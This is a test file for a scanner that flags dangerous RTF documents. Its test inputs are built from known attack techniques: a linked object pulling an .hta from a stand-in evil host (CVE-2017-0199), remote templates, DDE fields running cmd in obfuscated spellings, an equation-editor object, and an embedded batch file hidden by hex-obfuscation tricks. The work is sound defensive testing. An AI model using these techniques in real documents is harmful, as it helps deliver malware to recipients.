import { expect, test } from 'vitest';
import { allow } from '../../../../shared/model/verdict.ts';
import { inspecting, told } from '../inspecting.ts';
import { makeCompound } from './make-compound.ts';
import { makeNative } from './make-office.ts';

const judged = (body: string) => inspecting(`{\\rtf1\\ansi ${body}}`, 'a.doc');
const codes = (body: string) => judged(body).verdict.reasons.map(({ code }) => code);

/** An object of the first OLE as hexadecimal digits: class and content. */
function oldObject(className: string, native: Buffer, format = 2, topic = ''): string {
  const size = (value: number) => {
    const number = Buffer.alloc(4);
    number.writeUInt32LE(value);
    return number;
  };
  const text = (value: string) =>
    Buffer.concat([size(value.length + 1), Buffer.from(`${value}\0`, 'latin1')]);
  const content = format === 2 ? [size(native.length), native] : [];
  return Buffer.concat([
    size(0x501),
    size(format),
    text(className),
    text(topic),
    size(0),
    ...content,
  ]).toString('hex');
}

const packaged = oldObject('Package', makeNative('invoice.bat', '@echo off\r\ncalc').subarray(4));
const object = (digits: string, words = '') => `{\\object\\objemb${words}{\\*\\objdata ${digits}}}`;

test('a quiet document is clean', () => {
  expect(
    judged('\\pard Objekte \\{objdata\\} und {\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}\\par').verdict,
  ).toEqual(allow);
});

test('a file inside is told by its name and inspected itself', () => {
  const judgement = judged(object(packaged));
  expect(told(judgement)).toEqual(['file.script object 1/invoice.bat', 'document.embedded-file object 1']);
});

test('an equation in RTF is held (CVE-2017-11882)', () => {
  const storage = makeCompound([{ path: 'Equation Native', content: Buffer.alloc(40) }], {
    '': '0002ce02-0000-0000-c000-000000000046',
  });
  const judgement = judged(object(oldObject('Equation.3', storage)));
  expect(told(judgement)).toContain('document.equation object 1');
  expect(judgement.verdict.level).toBe('hold');
});

test('an object that becomes active on opening is held', () => {
  expect(codes(object(oldObject('Word.Document.8', Buffer.alloc(0)), '\\objupdate'))).toContain(
    'document.object-updates',
  );
});

test('a linked object from elsewhere is held (CVE-2017-0199)', () => {
  const judgement = judged(
    object(oldObject('Word.Document.8', Buffer.alloc(0), 1, 'http://evil.test/a.hta')),
  );
  expect(told(judgement)).toContain('document.remote-part object 1');
  expect(judgement.verdict.level).toBe('hold');
});

test.each([
  ['white space', packaged.replaceAll(/.{3}/g, '$& \r\n\t')],
  ['groups that Word leaves out', `${packaged.slice(0, 21)}{\\*\\nothing 414141}${packaged.slice(21)}`],
  ['words', `${packaged.slice(0, 20)}\\par ${packaged.slice(20, 40)}\\nothing ${packaged.slice(40)}`],
  ['escaped bytes', `${packaged.slice(0, 20)}\\'41${packaged.slice(20)}`],
  ['groups', `${packaged.slice(0, 20)}{${packaged.slice(20, 40)}}${packaged.slice(40)}`],
  ['upper and lower case', packaged.toUpperCase()],
])('an object is found through %s between its digits', (_, digits) => {
  expect(told(judged(object(digits)))).toContain('file.script object 1/invoice.bat');
});

test('digits that something stands between are told', () => {
  expect(codes(object(`${packaged.slice(0, 20)}\\par${packaged.slice(20)}`))).toContain(
    'document.obfuscated',
  );
  expect(codes(object('00'.repeat(40)))).toContain('document.obfuscated');
});

test('raw bytes count as the object, and a length that lies hides nothing', () => {
  const bytes = Buffer.from(packaged, 'hex');
  const raw = Buffer.concat([
    Buffer.from(`{\\rtf1{\\object{\\*\\objdata \\bin${bytes.length} `),
    bytes,
    Buffer.from('}}}'),
  ]);
  expect(told(inspecting(raw, 'a.rtf'))).toContain('file.script object 1/invoice.bat');
  expect(codes(`\\bin99999999 ${object(packaged)}`)).toContain('document.embedded-file');
});

test('an object within an object is found', () => {
  const inner = Buffer.from(`{\\rtf1 ${object(packaged)}}`);
  expect(told(judged(object(oldObject('Word.Document.8', inner))))).toContain(
    'file.script object 1/Word.Document.8/object 1/invoice.bat',
  );
  expect(told(judged(`{\\object{\\*\\objdata 0105{\\*\\objdata ${packaged}}}}`)).join()).toContain(
    'invoice.bat',
  );
});

test('a template from elsewhere is held, one on this computer is not', () => {
  const template = (target: string) => judged(`{\\*\\template ${target}}`);
  expect(told(template('http://evil.test/a.dotm'))).toEqual(['document.remote-template']);
  expect(told(template("http:{//evil}\\'2etest/a.dotm"))).toEqual(['document.remote-template']);
  expect(told(template('\\\\\\\\evil.test\\\\a.dotm'))).toEqual(['document.remote-template']);
  expect(template('C:\\\\Users\\\\a\\\\Normal.dotm').verdict.level).toBe('allow');
});

test('DDE in a field is held, however its letters are written', () => {
  const field = (text: string) => codes(`{\\field{\\*\\fldinst ${text}}{\\fldrslt x}}`);
  expect(field('DDEAUTO cmd "/k calc"')).toEqual(['document.dde']);
  expect(field('{D}{\\b DE}\\\'41UTO cmd "/k calc"')).toEqual(['document.dde']);
  expect(field('\\u68?DE cmd "/k calc"')).toEqual(['document.dde']);
});

test('a beginning that only Word understands is told', () => {
  const judgement = inspecting('{\\rt{\\object}}', 'a.doc');
  expect(judgement.verdict.reasons[0]).toMatchObject({
    code: 'document.obfuscated',
    params: { how: 'header' },
  });
});

test('groups without end are held', () => {
  expect(codes('{'.repeat(100_000))).toContain('file.over-limit');
});
